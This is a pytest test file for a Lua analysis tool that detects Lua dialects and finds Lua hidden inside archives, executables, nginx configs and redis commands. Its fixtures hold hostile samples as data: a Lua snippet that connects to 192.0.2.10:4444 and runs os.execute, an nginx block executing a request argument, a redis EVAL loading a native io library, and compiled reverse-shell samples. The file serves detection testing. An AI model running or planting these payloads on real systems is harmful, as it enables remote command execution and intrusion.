"""What a file is: dialects with evidence, other languages refused, Lua found inside other files."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from perilune.analysis import lua
from perilune.analysis.lua import identify
from perilune.analysis.lua.lexer import lex
from perilune.model.lua import Dialect, Form

COMPILED = Path(__file__).parent / "corpus" / "compiled"
SHELL = b'local s = require("socket")\nlocal t = s.tcp()\nt:connect("192.0.2.10", 4444)\nos.execute("id")\n'

DIALECTS = {
    "setfenv(1, {}) local f = loadstring('x') unpack(t)": Dialect.LUA51,
    "local e = _ENV table.unpack(t) goto x ::x::": Dialect.LUA52,
    "local s = string.pack('i4', 7 // 2) utf8.char(8364)": Dialect.LUA53,
    "local x <const> = 1 local f <close> = io.open('a')": Dialect.LUA54,
    "global function f() end global x, y": Dialect.LUA55,
    "local ffi = require('ffi') ffi.cdef[[int x;]] local n = 5ULL": Dialect.LUAJIT,
    "local x: number = 1 type T = {a: string} game:GetService('Players')": Dialect.LUAU,
    "if !IsValid(p) && p != q then hook.Add('a', 'b', f) end // done": Dialect.GLUA,
    "RegisterNetEvent('a') Citizen.Wait(1) local h = `hash`": Dialect.CFXLUA,
    "print('hello')": Dialect.LUA,
}
OTHERS = {
    "Python": b"import os\n\ndef f(x):\n    return os.system(x)\n\nclass A:\n    pass\n",
    "C": b"#include <stdio.h>\nint main(void) {\n  for (int i = 0; i < 3; i++) {\n    puts(\"x\");\n  }\n}\n",
    "JavaScript": b"const fs = require('fs');\nfunction f(a) {\n  return fs.readFileSync(a);\n}\n",
    "shell": b"#!/bin/sh\nfor f in *; do\n  if [ -f $f ]; then echo $f; fi\ndone\n",
    "JSON": b'{"a": [1, 2, 3], "b": "local x = 1"}', "HTML": b"<html><body>function f() end</body></html>",
    "INI": b"[section]\nkey = value\nother = 1\n", "English": b"If you want to end it, then do so for all of them, or return.",
    "PowerShell": b"$a = Get-Item .\nif ($a) {\n  Write-Host $a\n}\n", "SQL": b"SELECT a FROM b WHERE c = 1 AND d ~= 2; END;",
    "Ruby": b"require 'socket'\ndef f(x)\n  puts x\nend\n[1].each do |y|\n  f(y)\nend\n", "nothing": b"", "zeros": bytes(1000),
}  # fmt: skip


@pytest.mark.parametrize("text", DIALECTS)
def test_dialect(text: str) -> None:
    dialect, confidence, evidence = identify.dialect_of(lex(text))
    assert dialect is DIALECTS[text]
    assert evidence or dialect is Dialect.LUA
    assert all(text[e.start : e.end] for e in evidence)
    assert 0 <= confidence < 1


@pytest.mark.parametrize("name", OTHERS)
def test_other_languages_are_not_lua(name: str) -> None:
    assert lua.analyze(OTHERS[name], "file.txt").identity.form is Form.NONE
    assert not lua.is_lua(OTHERS[name], "file.txt")


@pytest.mark.parametrize("name", ["a.lua", "readme.txt", "uix.txt", "x.log", "conf.class", "", "import.ui"])
def test_lua_is_lua_under_any_name(name: str) -> None:
    assert lua.is_lua(SHELL, name)
    assert lua.is_lua((COMPILED / "redline.luac").read_bytes(), name)


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("readme.txt", SHELL)
        archive.writestr("compiler.exe", b"MZ" + bytes(300))
        archive.writestr("data.bin", (COMPILED / "reverse_shell.luac").read_bytes())
    return buffer.getvalue()


CARRIERS = {
    "zip": (_zip, 2),
    "program with an overlay": (lambda: b"MZ" + bytes(5000) + (COMPILED / "reverse_shell.luac").read_bytes(), 1),
    "program with a text inside": (lambda: b"\x7fELF" + bytes(900) + SHELL * 2 + bytes(900), 1),
    "nginx": (lambda: b"http { server { location / {\n content_by_lua_block {\n" + SHELL + b'ngx.say("}") -- }\n}\n} } }', 1),
    "nginx, older": (lambda: b"location / { content_by_lua 'os.execute(ngx.var.arg_c) local s = 1'; }", 1),
    "redis": (lambda: b"redis-cli -h 192.0.2.1 EVAL 'local io_l = package.loadlib(\"liblua5.1.so.0\", \"luaopen_io\") return 1' 0", 1),
    "command line": (lambda: b"""lua -e "local s=require('socket') os.execute('id')" """, 1),
}  # fmt: skip


@pytest.mark.parametrize("name", CARRIERS)
def test_lua_inside_other_files(name: str) -> None:
    make, pieces = CARRIERS[name]
    data = make()
    found = lua.analyze(data, "file.bin")
    assert found.identity.form is Form.CARRIER
    assert sum(unit.identity.form in (Form.SOURCE, Form.BYTECODE) for unit in found.units) == pieces
    assert found.calls
    for layer in found.layers[1:]:
        assert 0 <= layer.start < layer.end <= len(data)


def test_rockspec_and_nse_are_lua() -> None:
    rock = b'package = "x"\nversion = "1-1"\nsource = { url = "https://example.com/x" }\nbuild = { type = "builtin" }\n'
    assert lua.analyze(rock, "x-1-1.rockspec").identity.form is Form.SOURCE
    nse = b'local nmap = require "nmap"\nportrule = function(h, p) return p.number == 80 end\naction = function() nmap.new_socket() end\n'
    assert lua.analyze(nse, "x.nse").identity.host == "nmap"


def test_a_bomb_in_an_archive_costs_little() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for n in range(12):
            archive.writestr(f"{n}.lua", bytes(6_000_000))
    found = lua.analyze(buffer.getvalue())
    assert found.cut or found.identity.form is Form.NONE


@settings(max_examples=120, deadline=None)
@given(st.binary(max_size=600))
def test_any_bytes(data: bytes) -> None:
    found = lua.analyze(data)
    assert found.layers
    lua.is_lua(data)
